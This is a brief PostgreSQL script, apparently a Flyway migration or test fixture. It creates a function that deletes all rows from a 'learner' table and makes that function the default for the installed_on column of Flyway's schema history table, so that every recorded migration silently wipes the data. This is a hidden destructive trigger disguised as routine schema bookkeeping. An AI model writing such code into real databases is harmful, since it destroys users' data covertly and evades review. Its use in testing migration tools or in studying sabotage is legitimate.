create function lose() returns timestamp language plpgsql as $$
begin
    delete from learner;
    return now();
end $$;
alter table flyway_schema_history alter installed_on set default lose();
